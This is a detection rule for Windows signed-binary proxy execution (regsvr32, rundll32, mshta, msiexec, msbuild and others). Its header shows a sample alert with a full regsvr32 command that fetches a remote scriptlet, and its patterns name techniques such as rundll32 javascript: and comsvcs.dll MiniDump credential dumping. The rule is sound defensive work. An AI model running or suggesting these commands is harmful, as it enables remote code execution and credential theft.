// ringside: title="Windows' own program runs somebody else's code" technique=T1218.005,T1218.007,T1218.010,T1218.011,T1127.001 level=high tags=windows,evasion
//
// regsvr32, rundll32, mshta, msiexec and the build tools of .NET run code that they are given, under a name that allow lists trust.
//
//     > ringside run lolbin-proxy.js -o line
//     time=2026-05-05T09:20:10.610000000Z level=high rule=lolbin-proxy message="CORP\\ada: regsvr32 /s /n /u /i:http://198.51.100.23/f.sct scrobj.dll"
//
// Known false positives: msiexec with an address, where software is rolled out from a web server of one's own: leave out its name; developers' msbuild
// is only reported when Office or a script host starts it.
// References: https://attack.mitre.org/techniques/T1218/ https://lolbas-project.github.io

import { officePrograms, windowsShells } from "ringside:lists";
import { shorten } from "ringside:text";

const starters = [...officePrograms, "wscript", "cscript", "mshta", "wmiprvse"];
const builders = ["msbuild", "installutil", "regasm", "regsvcs", "csc", "vbc", "jsc"];
const userFolder = /\\(users\\[^\\]+\\(appdata|downloads|desktop)|users\\public|windows\\temp|programdata|perflogs)\\/i;

procs
    .where(
        os == "windows" &&
            ((name == "regsvr32" && (cmdline.matches(/\/i:\s*["']?(https?|ftp|\\\\)/i) || cmdline.containsi("scrobj.dll"))) ||
                (name == "rundll32" && (cmdline.matches(/javascript:|vbscript:|mshtml,\s*RunHTMLApplication|\\\\[\w.-]+\\[^,]*,|advpack\.dll,\s*LaunchINFSection|comsvcs\.dll,?\s*(MiniDump|#24)/i) || (cmdline.matches(userFolder) && !cmdline.matches(/\.(dll|cpl|ocx)\b/i)))) ||
                (name == "mshta" && cmdline.matches(/javascript:|vbscript:|https?:/i)) ||
                (name == "msiexec" && cmdline.matches(/[-/](q|quiet|qn)\b/i) && cmdline.matches(/[-/]i\s*["']?https?:/i)) ||
                (name == "wmic" && cmdline.matches(/\/format:\s*["']?(https?:|\\\\|[A-Z]:\\)/i)) ||
                (name == "cmstp" && cmdline.matches(/[-/](s|ni|au)\b.*\.inf\b/i)) ||
                (name == "control" && cmdline.matches(/\.cpl\b/i) && cmdline.matches(userFolder)) ||
                (name.in(builders) && (parent.in(starters) || (parent.in(windowsShells) && cmdline.matches(userFolder) && cmdline.matches(/\.(xml|txt|jpg|png|tmp)\b/i))))),
    )
    .alert((e) => `${e.user}: ${shorten(e.cmdline)}`);
